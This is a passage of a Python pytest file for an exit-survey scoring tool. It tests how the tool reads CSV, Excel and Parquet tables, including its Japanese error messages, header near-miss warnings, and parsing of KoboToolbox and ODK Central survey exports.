    assert list(frame.columns) == ["leaver_id", "industry"]
    assert frame["leaver_id"].tolist() == ["007"]  # text, as leaver_id is
    with pytest.raises(InputError, match="'.*a.csv' has no header '社員の番号' to read as "
                                         "leaver_id \\(the nearest is '社員番号'\\); its headers "
                                         "are '社員番号', '業種'") as e:
        read_table(path, id_column="社員の番号")
    japanese = e.value.in_language("ja")
    assert ("退職者IDとして読む見出し「社員の番号」がありません（近い見出し：「社員番号」）"
            in japanese)
    assert _japanese_only(japanese, str(path))


def test_a_near_miss_under_group_labels_names_the_whole_header(tmp_path):
    # A KoboToolbox labels export: "Group label/group/Question label", one label mistyped.
    header = ("上司との退職面談/sup_interview_answers/"
              "上司は、戻ってきても歓迎すという意思を示してくれましたか。")
    path = tmp_path / "a.csv"
    path.write_text(f"{header}\nはい\n", encoding="utf-8")
    question = "上司は、戻ってきても歓迎するという意思を示してくれましたか。"
    columns = {question: "sup_welcomed_return"}
    with pytest.warns(DataWarning, match=f"the nearest is '{header}': fix the header or the "
                                         "map"):
        read_table(path, columns=columns)


def test_a_near_miss_of_the_column_map_is_a_warning(tmp_path):
    path = tmp_path / "a.csv"
    path.write_text("退職者ID,上司が退職理由を理解してた\n007,はい\n", encoding="utf-8")
    columns = {"上司が退職理由を理解した": "sup_understood_reason"}
    with pytest.warns(DataWarning, match="maps the header '上司が退職理由を理解した' to "
                                         "sup_understood_reason \\('Supervisor understood "
                                         "the reason for leaving'\\), but '.*a.csv' has no such "
                                         "header; the nearest is '上司が退職理由を理解してた': "
                                         "fix the header or the map") as caught:
        frame = read_table(path, columns=columns)
    assert len(caught) == 1
    assert "見出しか対応表を直してください" in caught[0].message.in_language("ja")
    assert list(frame.columns) == ["leaver_id", "上司が退職理由を理解してた"]
    # No warning when the header is there, or when another column is the field.
    path.write_text("退職者ID,Supervisor understood the reason for leaving,上司が理解してた\n"
                    "007,はい,はい\n", encoding="utf-8")
    assert "sup_understood_reason" in read_table(path, columns=columns).columns


def test_japanese_messages_name_the_file_and_the_sheet(tmp_path):
    path = _survey_book(tmp_path / "survey.xlsx")
    with pytest.raises(InputError, match="has no sheet '回答一覧'; its sheets are "
                                         "'このファイルについて', '回答'") as e:
        read_table(path, sheet="回答一覧")
    japanese = e.value.in_language("ja")
    assert japanese == (f"{path} にシート「回答一覧」はありません。"
                        "シートは「このファイルについて」、「回答」です。"
                        "--sheet でいずれかを指定してください")
    assert _japanese_only(japanese, str(path))
    (tmp_path / "a.csv").write_text("leaver_id\n1\n", encoding="utf-8")
    with pytest.raises(InputError, match="not an Excel workbook") as e:
        read_table(tmp_path / "a.csv", sheet="回答")
    assert _japanese_only(e.value.in_language("ja"), str(tmp_path / "a.csv"), ".xlsx",
                          ".xlsm")
    with pytest.raises(InputError, match="unknown separator") as e:
        read_table(tmp_path / "a.csv", sep="|")
    assert _japanese_only(e.value.in_language("ja"), "--sep tab")


@pytest.mark.parametrize(("text", "written", "read", "expected", "japanese"), [
    ("leaver_id;age\n007;41\n", "utf-8", {"sep": ","},
     "the file looks ';'-separated; pass --sep ';'",
     "ファイルは ';' 区切りのようです。--sep ';' を指定してください"),
    ("id\tscore\n007\t41\n", "utf-16-le", {},
     "hold NUL bytes: the file is likely UTF-16 text; pass --encoding utf-16",
     "NUL文字が含まれています"),
    ("\u00e9quipe,x\n007,41\n", "utf-8", {"encoding": "latin-1"},
     "hold characters of a likely wrong encoding", "文字化けしています"),
])
def test_a_header_misread_by_separator_or_encoding_says_what_to_pass(
        tmp_path, text, written, read, expected, japanese):
    path = tmp_path / "a.csv"
    path.write_bytes(text.encode(written))
    with pytest.raises(InputError, match=f"a.csv' has no header that names a field: .*"
                                         f"{re.escape(expected)}") as e:
        read_table(path, **read)
    assert japanese in e.value.in_language("ja")
    assert "項目名がありません" in e.value.in_language("ja")


def test_a_header_that_names_a_field_is_read_whatever_else_it_holds(tmp_path):
    path = tmp_path / "a.csv"
    path.write_text("leaver_id,Ã©quipe\n007,x\n", encoding="utf-8")
    assert list(read_table(path).columns) == ["leaver_id", "Ã©quipe"]
    path.write_text("a;b\n1;2\n", encoding="utf-8")
    assert list(read_table(path, sep=",", columns={"a;b": "leaver_id"}).columns) == [
        "leaver_id"]


def test_a_malformed_worksheet_row_reads_in_japanese(tmp_path):
    path = _workbook(tmp_path / "a.xlsx", {"s": [["leaver_id", "age"], ["1", 2, "x"]]})
    with pytest.raises(InputError, match="row 2 is malformed: a value in column C") as e:
        read_table(path)
    assert e.value.in_language("ja") == (
        f"{path} の2行目を読み取れません：見出しのないC列に値があります（見出しはB列まで）")


def test_header_row_is_refused_for_parquet(tmp_path):
    write_table(pd.DataFrame({"leaver_id": ["1"]}), tmp_path / "a.parquet")
    with pytest.raises(InputError, match="is a Parquet file, whose headers are its column "
                                         "names: leave out --header-row"):
        read_table(tmp_path / "a.parquet", header_row=2)
    chunk = next(iter_table(tmp_path / "a.parquet"))
    assert (chunk.sheet, chunk.header_row, chunk.headers) == (None, 1, {"leaver_id": "leaver_id"})


def test_names_given_on_the_command_line_are_resolved_to_columns():
    present = ["leaver_id", "gender", "部署", "industry_en", "age"]
    columns = {"Industry": "industry_en"}
    assert resolve_columns(["性別", " 部署", "Industry", "gender", "age_band"], columns,
                           present) == ["gender", "部署", "industry_en", "gender", "age_band"]


def test_number_formats_are_given_to_the_numbers_of_their_columns(tmp_path):
    import openpyxl

    book = XlsxBook()
    sheet = book.sheet("scores", formats={"p": "0.0%"})
    sheet.write(pd.DataFrame({"leaver_id": ["007"], "p": [0.25]}))
    sheet.write(pd.DataFrame({"leaver_id": ["008"], "p": [np.nan]}))
    book.save(tmp_path / "a.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "a.xlsx")["scores"]
    assert [(c.value, c.number_format) for c in ws["B"][1:]] == [(0.25, "0.0%"),
                                                                (None, "General")]
    assert ws["A2"].number_format == "General"


# --------------------------------------------------------------------------------------
# Survey exports: KoboToolbox and ODK Central, read without a column map
# --------------------------------------------------------------------------------------

#: The groups of the exit-survey form (a group inside a group after a "/").
FORM_GROUPS = {
    "employer": ("leaver_id", "company_size", "industry", "job_level", "tenure_years",
                 "years_since_exit"),
    "policies": ("policy_comeback_program", "policy_alumni_perks",
                 "policy_alumni_community", "policy_alumni_events", "informal_rehire_custom"),
    "sup_interview": ("sup_interview_held",),
    "sup_interview/sup_answers": ("sup_interview_amicability", "sup_understood_reason",
                                  "sup_respected_timing", "sup_listened_to_end",
                                  "sup_listened_carefully", "sup_heard_dissatisfaction",
                                  "sup_answered_questions", "sup_welcomed_return"),
    "hr_interview": ("hr_interview_held",),
    "hr_interview/hr_answers": ("hr_interview_amicability",),
    "follow_up": ("invited_to_alumni_community", "informed_of_rehire_route"),
    "outcomes": ("alumni_engagement", "rehire_intent"),
    "about_you": ("age", "gender", "married", "has_children"),
}
GROUP_OF = {name: group for group, names in FORM_GROUPS.items() for name in names}
#: The submission's columns around the answers, as a KoboToolbox export has them.
KOBO_BEFORE = ["start", "end"]
KOBO_AFTER = ["_id", "_uuid", "_submission_time", "_validation_status", "_notes", "_status",
              "_submitted_by", "__version__", "_tags", "meta/rootUuid", "_index"]
#: The submission's columns after the answers, as an ODK Central export has them.
ODK_AFTER = ["meta-instanceID", "KEY", "SubmitterID", "SubmitterName", "AttachmentsPresent",
             "AttachmentsExpected", "Status", "ReviewState", "DeviceID", "Edits",
             "FormVersion"]
RECORDS = rm.make_leaver_survey(6, random_state=5)


def _grouped(records, separator):
    """``records`` with each field's header under its groups, as the form exports it."""
    return records.rename(columns=lambda name: separator.join(
        [*GROUP_OF[name].split("/"), name]))


def _uuids(n):
    return [f"3f15cdfe-3eab-4678-8352-{i:012d}" for i in range(n)]


def _kobo_export(records, groups=True):
    """``records`` as KoboToolbox exports them ("XML values and headers"): the answers,
    under their groups unless ``groups`` is false, between the submission's columns; the
    form has no ``leaver_id`` question unless ``records`` has one."""
    n, uuids = len(records), _uuids(len(records))
    answers = _grouped(records, "/") if groups else records
    before = pd.DataFrame({"start": ["2025-04-01T09:00:00.000+09:00"] * n,
                           "end": ["2025-04-01T09:12:00.000+09:00"] * n})
    after = pd.DataFrame({
        "_id": range(1001, 1001 + n), "_uuid": uuids,
        "_submission_time": ["2025-04-01T00:12:30"] * n, "_validation_status": "",
        "_notes": "", "_status": "submitted_via_web", "_submitted_by": "",
        "__version__": "vbKavWWCpgBCZms6hQX4FN", "_tags": "",
        "meta/rootUuid": [f"uuid:{uuid}" for uuid in uuids], "_index": range(1, n + 1)})
    return pd.concat([before, answers, after], axis=1)


def _write_kobo(export, path):
    """A KoboToolbox CSV (';'-separated, every cell quoted) or XLSX (headers in row 1)."""
    if path.suffix == ".csv":
        export.to_csv(path, sep=";", quoting=csv.QUOTE_ALL, index=False)
    else:
        write_table(export, path)
    return path


@pytest.mark.parametrize(("suffix", "groups"), [(".csv", True), (".xlsx", True),
                                                (".csv", False)])
def test_a_kobotoolbox_export_reads_as_the_fields_with_the_submission_id(
        tmp_path, suffix, groups):
    records = RECORDS.drop(columns="leaver_id")
    path = _write_kobo(_kobo_export(records, groups), tmp_path / f"kobo{suffix}")
    chunk = next(iter_table(path))
    assert list(chunk.frame.columns) == [*KOBO_BEFORE, *records.columns, "_id", "leaver_id",
                                         *KOBO_AFTER[2:]]
    assert chunk.header_row == 1
    assert chunk.frame["leaver_id"].tolist() == _uuids(len(records))
    assert chunk.headers["leaver_id"] == "_uuid"
    assert chunk.frame["industry"].tolist() == records["industry"].tolist()
    assert chunk.frame["tenure_years"].tolist() == records["tenure_years"].tolist()
    if groups:
        assert chunk.headers["sup_welcomed_return"] == (
            "sup_interview/sup_answers/sup_welcomed_return")


def test_an_odk_central_export_reads_as_the_fields_with_the_submission_id(tmp_path):
    records = RECORDS.drop(columns="leaver_id")
    keys = [f"uuid:{uuid}" for uuid in _uuids(len(records))]
    export = pd.concat([
        pd.DataFrame({"SubmissionDate": ["2025-04-01T00:12:30.000Z"] * len(records)}),
        _grouped(records, "-"),
        pd.DataFrame({"meta-instanceID": keys, "KEY": keys, "SubmitterID": 5,
                      "SubmitterName": "hr-tokyo", "AttachmentsPresent": 0,
                      "AttachmentsExpected": 0, "Status": "", "ReviewState": "",
                      "DeviceID": "", "Edits": 0, "FormVersion": "2025040101"})], axis=1)
    export.to_csv(tmp_path / "odk.csv", index=False)
    chunk = next(iter_table(tmp_path / "odk.csv"))
    assert list(chunk.frame.columns) == ["SubmissionDate", *records.columns, "leaver_id",
                                         *ODK_AFTER[1:]]
    assert chunk.frame["leaver_id"].tolist() == chunk.frame["KEY"].tolist() == keys
    assert chunk.headers["hr_interview_amicability"] == (
        "hr_interview-hr_answers-hr_interview_amicability")
    assert chunk.frame["gender"].tolist() == records["gender"].tolist()


@pytest.mark.parametrize(("headers", "id_header"), [
    (["KEY", "_uuid", "instanceID"], "_uuid"),
    (["KEY", "meta-instanceID"], "meta-instanceID"),
    (["meta-instanceID", "meta/instanceID"], "meta/instanceID"),
    (["instanceID", "KEY"], "KEY"),
    (["instanceID", "_id"], "instanceID"),
])
def test_the_submission_id_read_as_leaver_id_is_the_first_the_table_has(
        tmp_path, headers, id_header):
    path = tmp_path / "a.csv"
    pd.DataFrame({"employer/industry": ["services"],
                  **{header: [f"{header}-1"] for header in headers}}).to_csv(path, index=False)
    frame = read_table(path)
    assert frame["leaver_id"].tolist() == [f"{id_header}-1"]
    assert set(frame.columns) == {"industry", "leaver_id"} | set(headers) - {id_header}


def test_an_export_with_its_own_leaver_id_keeps_it_and_the_submission_id(tmp_path):
    path = _write_kobo(_kobo_export(RECORDS), tmp_path / "kobo.csv")
    frame = read_table(path)
    assert frame["leaver_id"].tolist() == RECORDS["leaver_id"].tolist()
    assert frame["_uuid"].tolist() == _uuids(len(RECORDS))


def test_a_label_header_under_its_groups_reads_through_the_column_map(tmp_path):
    path = tmp_path / "labels.csv"
    frame = pd.DataFrame({"あなたの前職/前の会社での在籍年数": [4.5],
                          "会社の質問/所属部署の人数": [12], "Employer/Industry": ["services"],
                          "面談/上司の面談はありましたか": ["はい"]})
    frame.to_csv(path, sep=";", index=False)
    columns = {"前の会社での在籍年数": "tenure_years", "所属部署の人数": "dept_size"}
    read = read_table(path, columns=columns)
    assert list(read.columns) == ["tenure_years", "dept_size", "industry",
                                  "面談/上司の面談はありましたか"]
    assert read.loc[0, "tenure_years"] == 4.5
    assert resolve_columns(["会社の質問/所属部署の人数", "about_you-gender"], columns,
                           ["dept_size", "gender"]) == ["dept_size", "gender"]


def test_a_header_as_written_is_read_before_its_end_after_groups(tmp_path):
    path = tmp_path / "a.csv"
    path.write_text("面談/industry,employer/industry\nx,services\n", encoding="utf-8")
    frame = read_table(path, columns={"面談/industry": "面談の業種"})
    assert list(frame.columns) == ["面談の業種", "industry"]


@pytest.mark.parametrize("header", ["面談/industry", "interview-industry,KEY", "industry"])
def test_two_headers_naming_one_field_after_groups_are_refused(tmp_path, header):
    path = tmp_path / "a.csv"
    path.write_text(f"{header},employer/industry\nx,y,services\n", encoding="utf-8")
    with pytest.raises(InputError, match="the table has more than one column "
                                         "\\['industry'\\]; map only one header to each field"):
        read_table(path)


def test_dashes_join_groups_only_in_an_odk_central_export(tmp_path):
    path = tmp_path / "a.csv"
    path.write_text("Sub-industry,employer-job_level\nretail,staff\n", encoding="utf-8")
    assert list(read_table(path).columns) == ["Sub-industry", "employer-job_level"]
    path.write_text("Sub-industry,employer-job_level,KEY\nretail,staff,uuid:1\n",
                    encoding="utf-8")
    assert list(read_table(path).columns) == ["industry", "job_level", "leaver_id"]


def test_a_header_row_under_a_title_is_found_by_its_grouped_headers(tmp_path):
    export = _grouped(RECORDS.head(2), "/")
    path = _workbook(tmp_path / "a.xlsx", {"回答": [
        [TITLE], list(export.columns),
        *export.astype(object).where(export.notna(), None).values.tolist()]})
    chunk = next(iter_table(path))
    assert (chunk.header_row, chunk.lines.tolist()) == (2, [3, 4])
    assert list(chunk.frame.columns) == list(RECORDS.columns)


def test_survey_metadata_is_no_misread_header_nor_a_near_miss(tmp_path):
    path = tmp_path / "odk.csv"
    path.write_text("SubmissionDate,ReviewState,KEY,Edits\n2025-04-01,approved,uuid:1,0\n",
                    encoding="utf-8")
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        frame = read_table(path, columns={"ReviewStatus": "review", "Edit": "edits"})
    assert list(frame.columns) == ["SubmissionDate", "ReviewState", "leaver_id", "Edits"]


def test_a_kobotoolbox_export_scores_as_its_records(tmp_path):
    records = rm.make_leaver_survey(50, random_state=3)
    export = _kobo_export(records.drop(columns="leaver_id"))
    path = _write_kobo(export, tmp_path / "kobo.csv")
    summary = batch.score_file(path, tmp_path / "scores.csv")
    scores = pd.read_csv(tmp_path / "scores.csv", dtype={"leaver_id": str})
    expected = rm.load_model().predict(records)
    assert summary.line() == "read 50 rows: scored 50, rejected 0"
    assert scores["leaver_id"].tolist() == export["_uuid"].tolist()
    for name in ("p_alumni_engagement", "p_rehire_intent"):
        np.testing.assert_allclose(scores[name], expected[name], rtol=0, atol=1e-12)
